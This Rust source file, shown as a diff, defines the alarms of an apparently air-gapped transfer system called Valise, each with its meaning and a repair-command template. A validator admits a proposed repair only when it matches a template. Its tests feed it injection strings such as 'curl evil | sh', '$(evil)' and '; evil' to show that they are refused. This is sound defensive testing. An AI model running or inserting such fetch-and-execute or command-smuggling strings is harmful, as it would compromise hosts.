@@ -1,0 +1,509 @@
+//! The alarms of both hosts: one table of their names, what each means, and the command that repairs it.
+//!
+//! A role raises an alarm; `status`, the journal, the metrics and `[alarm] command` show it. `docs/operations.md` has a line
+//! for each, and a test compares the two.
+
+use std::fmt;
+
+use serde::{Deserialize, Serialize};
+
+use crate::role::Role;
+use crate::units::UtcTime;
+
+/// Characters of a part of a command that a role may choose.
+const ARGUMENT_CHARS_MAX: usize = 200;
+
+/// Declares the alarms: a name, and for each its word, its meaning, and its repair.
+macro_rules! alarms {
+    ($($(#[$doc:meta])* $name:ident = $word:literal, $means:literal, [$($repair:literal),+];)*) => {
+        /// What needs a person, by its name.
+        #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+        pub enum Alarm {
+            $(#[doc = $means] $name,)*
+        }
+
+        impl Alarm {
+            /// Every alarm, by its word.
+            pub const ALL: &'static [Alarm] = &[$(Alarm::$name,)*];
+
+            /// The word, as in `status` and in the audit log.
+            pub const fn as_str(self) -> &'static str {
+                match self { $(Alarm::$name => $word,)* }
+            }
+
+            /// The meaning: what follows from it.
+            pub const fn means(self) -> &'static str {
+                match self { $(Alarm::$name => $means,)* }
+            }
+
+            /// The commands that repair it, the general one first. `{start}` and `{restart}` depend on how the role runs,
+            /// a word in upper case in braces is what the alarm is about.
+            const fn templates(self) -> &'static [&'static str] {
+                match self { $(Alarm::$name => &[$($repair,)+],)* }
+            }
+        }
+    };
+}
+
+alarms! {
+    AnswersOpen = "answers-open",
+        "every user who may place requests can read the answers to all others",
+        ["findmnt -T {STATE}, then move the state folder to ext4 or xfs and {restart}"];
+    Aside = "aside",
+        "gate found something that it did not make, and put it into aside/",
+        ["sudo ls -l {STATE}/aside, then take away what is there"];
+    AuditLog = "audit-log",
+        "the audit log ended in an incomplete line, which was moved aside",
+        ["valise-{host} audit verify"];
+    Beacon = "beacon",
+        "the newest beacon is ignored, and the one before it stays in force",
+        ["{restart receive}"];
+    Clock = "clock",
+        "the clock is behind the audit log: nothing expires, and the sender takes no submission",
+        ["timedatectl set-time TIME, or valise-{host} clock accept if the clock is right"];
+    ClockAhead = "clock-ahead",
+        "the clock leapt ahead: no submission is taken, and nothing expires",
+        ["timedatectl set-time TIME, or valise-{host} clock accept if the clock is right"];
+    Container = "container",
+        "a sealed container cannot be sent, and the receiver will report its serial as missing",
+        ["{restart gate}"];
+    CopiesOnWrite = "copies-on-write",
+        "what is overwritten stays on the disk, because the file system copies on write",
+        ["findmnt -T {STATE}, then move the state folder to ext4 or xfs"];
+    Damaged = "damaged",
+        "the disk changed a container after it arrived; nothing of it was released",
+        ["valise-sender resend {SERIALS}"];
+    Disk = "disk",
+        "the disk of the state folder is nearly full, full, or read-only; nothing that was accepted is lost",
+        ["df -h {STATE}, then make room outside of the state folder"];
+    Egress = "egress",
+        "frames leave the isolated host by the interface of the link",
+        ["sudo systemctl enable --now valise-receiver-silence@{INTERFACE}"];
+    Fence = "fence",
+        "a role works without one of its fences; an attacker inside it could do more",
+        ["{restart}, when what refuses the fence is changed"];
+    ForeignFile = "foreign-file",
+        "something that Valise did not make is in the place of a file of its own",
+        ["sudo ls -l {PATH}, then move it out of the state folder"];
+    Forged = "forged",
+        "somebody else may have the link key; nothing forged gets through",
+        ["valise-receiver bundle create --slots N --out DIR, then link-key retire when the sender has imported it"];
+    GateHung = "gate-hung",
+        "gate takes no request and seals nothing",
+        ["{restart gate}"];
+    GateNotRunning = "gate-not-running",
+        "gate takes no request and seals nothing",
+        ["{start gate}"];
+    GateView = "gate-view",
+        "what gate shows is damaged; no decision depends on it",
+        ["{restart gate}"];
+    Hindered = "hindered",
+        "somebody keeps taking the name of a released cable in its mailbox; the cable is not visible there",
+        ["sudo ls -l {STATE}/released/{MAILBOX}, then stop the reader who does it"];
+    LinkAddress = "link-address",
+        "receive cannot hear the link, because this host does not have the address of link.listen",
+        ["ip address add {ADDRESS}/PREFIX dev INTERFACE"];
+    LinkDown = "link-down",
+        "nothing leaves the host; cables wait, and are sent when the link is up",
+        [
+            "ip address; ip route; ip neigh",
+            "ip link set dev {INTERFACE} up",
+            "ip link show dev {INTERFACE}",
+            "ip neigh replace {ADDRESS} lladdr MAC dev {INTERFACE} nud permanent",
+            "ip route add {ADDRESS} dev INTERFACE",
+            "ip address add {ADDRESS}/PREFIX dev INTERFACE"
+        ];
+    LinkKey = "link-key",
+        "the newest link key of this host is damaged; nothing is sent or taken under it",
+        ["valise-receiver bundle create --slots N --out DIR"];
+    LinkPort = "link-port",
+        "receive cannot hear the link, because another program has its UDP port",
+        ["ss -ulpn, then end the program that has port {PORT}"];
+    LinkUnwatched = "link-unwatched",
+        "a cable may count as transmitted although the link is down",
+        ["{restart transmit}, when its unit allows AF_NETLINK"];
+    Missing = "missing",
+        "serials that the sender has sent did not arrive",
+        ["valise-sender resend {SERIALS}"];
+    NotErased = "not-erased",
+        "the content of deleted requests may still be on the disk",
+        ["have the program that places requests make its files writable for the group (chmod 0660)"];
+    NotFetched = "not-fetched",
+        "released cables wait in their mailboxes for longer than release.pickup_alarm",
+        ["valise-receiver list --state released"];
+    NotSealed = "not-sealed",
+        "a cable that had its serial could not be sealed, and is not sent",
+        ["valise-sender submit, for the cable again"];
+    PendingDamaged = "pending-damaged",
+        "the disk changed a waiting cable; it is neither approved nor sealed",
+        ["valise-sender withdraw {ID}"];
+    PendingMissing = "pending-missing",
+        "the folder of a waiting cable is gone",
+        ["valise-sender withdraw {ID}"];
+    Quarantine = "quarantine",
+        "cables are held back, because a check of the receiver refused them",
+        ["valise-receiver quarantine list"];
+    ReceiveHung = "receive-hung",
+        "nothing of the link is taken",
+        ["{restart receive}"];
+    ReceiveNotRunning = "receive-not-running",
+        "nothing of the link is taken",
+        ["{start receive}"];
+    ReceiveView = "receive-view",
+        "what receive shows is damaged; no decision depends on it",
+        ["{restart receive}"];
+    RegisterRebuilt = "register-rebuilt",
+        "the register was damaged or missing, and was built again from the audit log; nothing is lost",
+        ["sudo smartctl -a DEVICE"];
+    ReleaseHung = "release-hung",
+        "nothing is opened and released; what arrives waits",
+        ["{restart release}"];
+    ReleaseNotRunning = "release-not-running",
+        "nothing is opened and released; what arrives waits",
+        ["{start release}"];
+    ReleaseView = "release-view",
+        "what release shows is damaged; no decision depends on it",
+        ["{restart release}"];
+    RequestLeft = "request-left",
+        "a request that its writer did not finish may hold content, and cannot be taken away",
+        ["sudo rm -r {STATE}/requests/{NAME}"];
+    RequestsHeld = "requests-held",
+        "the requests of a user wait, because too many of them were refused",
+        ["sudo ls -l {STATE}/requests"];
+    SealingWaits = "sealing-waits",
+        "a cable that has its serial cannot be sealed yet",
+        ["valise-sender show {ID}"];
+    SecondContainer = "second-container",
+        "a serial came with a second cable, which is lost: the sender was restored from a backup, or somebody else has the link key",
+        ["valise-receiver bundle create --replaces {BUNDLE}"];
+    Silence = "silence",
+        "nothing arrives: the line, the diode or the sender is down",
+        ["valise-sender status"];
+    SlotsDamaged = "slots-damaged",
+        "the slots of a bundle are damaged, and its cables cannot be sealed or opened",
+        ["valise-receiver bundle create --replaces {BUNDLE}"];
+    SlotsLow = "slots-low",
+        "soon no cable can be sealed any more",
+        ["valise-receiver bundle create --slots N --out DIR"];
+    SlotsNone = "slots-none",
+        "approved cables wait, because no slot is left",
+        ["valise-sender bundle import DIR"];
+    TransmitHung = "transmit-hung",
+        "nothing is sent; sealed cables wait",
+        ["{restart transmit}"];
+    TransmitNotRunning = "transmit-not-running",
+        "nothing is sent; sealed cables wait",
+        ["{start transmit}"];
+    TransmitView = "transmit-view",
+        "what transmit shows is damaged; no decision depends on it",
+        ["{restart transmit}"];
+    TrustDamaged = "trust-damaged",
+        "nothing is accepted, sealed or released until the trust list is imported again",
+        ["valise-{host} trust import FILE"];
+    TrustMissing = "trust-missing",
+        "nothing is accepted, sealed or released without a trust list",
+        ["valise-{host} trust import FILE"];
+    Unopened = "unopened",
+        "a container did not open, and was discarded; its serial can be sent again",
+        ["valise-sender resend {SERIALS}"];
+    Unreadable = "unreadable",
+        "a cable arrived that release has no right to read; it is not missing",
+        ["sudo chmod 0640 {PATH}"];
+}
+
+impl Alarm {
+    /// Finds an alarm by its word.
+    pub fn find(word: &str) -> Option<Self> {
+        let mut all = Self::ALL.iter().copied();
+        all.find(|alarm| alarm.as_str() == word)
+    }
+
+    /// The alarm of a role that does not run.
+    pub const fn not_running(role: Role) -> Self {
+        match role {
+            Role::Gate => Self::GateNotRunning,
+            Role::Transmit => Self::TransmitNotRunning,
+            Role::Receive => Self::ReceiveNotRunning,
+            Role::Release => Self::ReleaseNotRunning,
+        }
+    }
+
+    /// The alarm of a role that lives and does not work.
+    pub const fn hung(role: Role) -> Self {
+        match role {
+            Role::Gate => Self::GateHung,
+            Role::Transmit => Self::TransmitHung,
+            Role::Receive => Self::ReceiveHung,
+            Role::Release => Self::ReleaseHung,
+        }
+    }
+
+    /// The alarm of a role whose view is damaged.
+    pub const fn view(role: Role) -> Self {
+        match role {
+            Role::Gate => Self::GateView,
+            Role::Transmit => Self::TransmitView,
+            Role::Receive => Self::ReceiveView,
+            Role::Release => Self::ReleaseView,
+        }
+    }
+
+    /// Returns the command that repairs it. A command that a role proposes is taken only if it has the form of one in the
+    /// table: somebody who has taken over a role must not choose what an operator types.
+    pub fn repair(self, role: Role, on: &Installation, proposed: Option<&str>) -> String {
+        let templates = self.templates().iter();
+        let general = self.templates().first().copied().unwrap_or_default();
+        let proposed = proposed.filter(|text| {
+            let mut known = templates.map(|template| fill(template, role, on));
+            known.any(|template| is_instance(text, &template))
+        });
+        match proposed {
+            Some(text) => text.to_owned(),
+            None => fill(general, role, on).replace(['{', '}'], ""),
+        }
+    }
+}
+
+impl fmt::Display for Alarm {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// The host that an alarm is repaired on.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Installation {
+    /// How its roles run.
+    pub runs: Runs,
+    /// Its state folder.
+    pub state: String,
+}
+
+/// How the roles of a host run.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Runs {
+    /// Each as a unit of the service manager, under its own user.
+    AsUnits,
+    /// All as children of `run`.
+    UnderRun,
+}
+
+impl Runs {
+    /// The command that starts a role.
+    pub fn start(self, role: Role) -> String {
+        let host = role.host();
+        match self {
+            Self::AsUnits => format!("sudo systemctl start valise-{host}-{role}"),
+            Self::UnderRun => format!("valise-{host} run"),
+        }
+    }
+
+    /// The command that restarts a role.
+    pub fn restart(self, role: Role) -> String {
+        let host = role.host();
+        match self {
+            Self::AsUnits => format!("sudo systemctl restart valise-{host}-{role}"),
+            Self::UnderRun => format!("valise-{host} run, after the one that runs has ended"),
+        }
+    }
+}
+
+/// Puts in what depends on the host and on how its roles run.
+fn fill(template: &str, role: Role, on: &Installation) -> String {
+    let Installation { runs, state } = on;
+    let mut text = template.replace("{host}", role.host());
+    for other in Role::ALL {
+        text = text.replace(&format!("{{start {other}}}"), &runs.start(other));
+        text = text.replace(&format!("{{restart {other}}}"), &runs.restart(other));
+    }
+    text.replace("{restart}", &runs.restart(role))
+        .replace("{STATE}", state)
+}
+
+/// Returns whether a text is the template with arguments in the places of its words in braces.
+fn is_instance(text: &str, template: &str) -> bool {
+    let is_plain = |one: char| one.is_ascii_alphanumeric() || "-_.,:/%@…".contains(one);
+    let Some((before, rest)) = template.split_once('{') else {
+        return text == template;
+    };
+    let (Some(text), Some((_, after))) = (text.strip_prefix(before), rest.split_once('}')) else {
+        return false;
+    };
+    // The argument ends where what is plain ends; commands have a space after it, or end.
+    let next = after.chars().next();
+    let end = text.find(|one| Some(one) == next || !is_plain(one));
+    let (argument, text) = text.split_at(end.unwrap_or(text.len()));
+    !argument.is_empty()
+        && argument.chars().count() <= ARGUMENT_CHARS_MAX
+        && is_instance(text, after)
+}
+
+/// What a role says when it raises an alarm: what happened, and the command that repairs it where it is more exact than the
+/// table's.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Cause {
+    /// A sentence, without content.
+    pub text: String,
+    /// The command.
+    pub repair: Option<String>,
+}
+
+impl Cause {
+    /// Adds the exact command.
+    pub fn repaired_by(text: impl Into<String>, repair: impl Into<String>) -> Self {
+        Self {
+            text: text.into(),
+            repair: Some(repair.into()),
+        }
+    }
+}
+
+impl From<String> for Cause {
+    fn from(text: String) -> Self {
+        Self { text, repair: None }
+    }
+}
+
+impl From<&str> for Cause {
+    fn from(text: &str) -> Self {
+        text.to_owned().into()
+    }
+}
+
+/// An alarm as it is shown, on both hosts and in every place.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct AlarmView {
+    /// Its word.
+    pub alarm: String,
+    /// The role that it is about.
+    pub role: Role,
+    /// Since when.
+    pub since: UtcTime,
+    /// What happened, without content.
+    pub text: String,
+    /// What follows from it.
+    pub means: String,
+    /// The command that repairs it on this installation.
+    pub repair: String,
+}
+
+impl AlarmView {
+    /// Puts the view of an alarm together.
+    pub fn new(alarm: Alarm, role: Role, on: &Installation, since: UtcTime, cause: Cause) -> Self {
+        Self {
+            alarm: alarm.as_str().to_owned(),
+            role,
+            since,
+            means: alarm.means().to_owned(),
+            repair: alarm.repair(role, on, cause.repair.as_deref()),
+            text: cause.text,
+        }
+    }
+
+    /// Takes what the view of a role says of an alarm, and nothing else from it: `None` for an alarm that this version does
+    /// not know.
+    pub fn of_role(self, role: Role, on: &Installation) -> Option<(Alarm, Self)> {
+        let alarm = Alarm::find(&self.alarm)?;
+        let cause = Cause::repaired_by(self.text, self.repair);
+        let view = Self::new(alarm, role, on, self.since, cause);
+        Some((alarm, view))
+    }
+}
+
+impl fmt::Display for AlarmView {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let Self {
+            alarm,
+            since,
+            text,
+            repair,
+            ..
+        } = self;
+        write!(f, "{alarm}: {text} (since {since}; repair: {repair})")
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn on(runs: Runs) -> Installation {
+        let state = "/var/lib/valise".to_owned();
+        Installation { runs, state }
+    }
+
+    #[test]
+    fn the_table_is_in_order_and_every_repair_is_filled_in() {
+        let words: Vec<&str> = Alarm::ALL.iter().map(|alarm| alarm.as_str()).collect();
+        assert!(words.is_sorted(), "{words:?}");
+        for alarm in Alarm::ALL {
+            assert_eq!(Alarm::find(alarm.as_str()), Some(*alarm));
+            for role in Role::ALL {
+                for runs in [Runs::AsUnits, Runs::UnderRun] {
+                    let repair = alarm.repair(role, &on(runs), None);
+                    let is_whole = !repair.is_empty() && !repair.contains(['{', '}']);
+                    assert!(is_whole, "{alarm}: {repair}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn the_command_depends_on_how_the_role_runs() {
+        let repair = |runs| Alarm::hung(Role::Transmit).repair(Role::Gate, &on(runs), None);
+        assert_eq!(
+            repair(Runs::AsUnits),
+            "sudo systemctl restart valise-sender-transmit"
+        );
+        assert!(repair(Runs::UnderRun).starts_with("valise-sender run"));
+    }
+
+    #[test]
+    fn a_role_chooses_arguments_and_never_the_command() {
+        let repair = |alarm: Alarm, proposed: &str| {
+            alarm.repair(Role::Transmit, &on(Runs::AsUnits), Some(proposed))
+        };
+        for (alarm, command) in [
+            (Alarm::LinkDown, "ip link set dev eth1 up"),
+            (
+                Alarm::LinkDown,
+                "ip neigh replace 192.0.2.2 lladdr MAC dev eth1 nud permanent",
+            ),
+            (Alarm::Missing, "valise-sender resend 3,5-9"),
+        ] {
+            assert_eq!(repair(alarm, command), command);
+        }
+        for (alarm, command) in [
+            (Alarm::LinkDown, "curl evil | sh"),
+            (Alarm::LinkDown, "ip link set dev $(evil) up"),
+            (Alarm::LinkDown, "ip link set dev eth1 up; evil"),
+            (Alarm::LinkDown, "ip link set dev  up"),
+            (Alarm::Missing, "valise-sender resend 3\nevil"),
+            (Alarm::Missing, "ip link set dev eth1 up"),
+        ] {
+            assert_eq!(
+                repair(alarm, command),
+                alarm.repair(Role::Transmit, &on(Runs::AsUnits), None)
+            );
+        }
+    }
+
+    #[test]
+    fn what_a_view_says_of_an_alarm_is_never_its_meaning_or_another_role() {
+        let view = AlarmView {
+            alarm: "link-down".to_owned(),
+            role: Role::Gate,
+            since: UtcTime::from_s(5),
+            text: "no carrier".to_owned(),
+            means: "type evil".to_owned(),
+            repair: "evil".to_owned(),
+        };
+        let (alarm, view) = view.of_role(Role::Transmit, &on(Runs::AsUnits)).unzip();
+        assert_eq!(alarm, Some(Alarm::LinkDown));
+        let line = view.as_ref().map(ToString::to_string).unwrap_or_default();
+        assert!(line.starts_with("link-down: no carrier (since 1970-01-01T00:00:05Z; repair: ip "));
+        let view = view.map(|view| (view.role, view.means));
+        let means = Alarm::LinkDown.means().to_owned();
+        assert_eq!(view, Some((Role::Transmit, means)));
+    }
+}
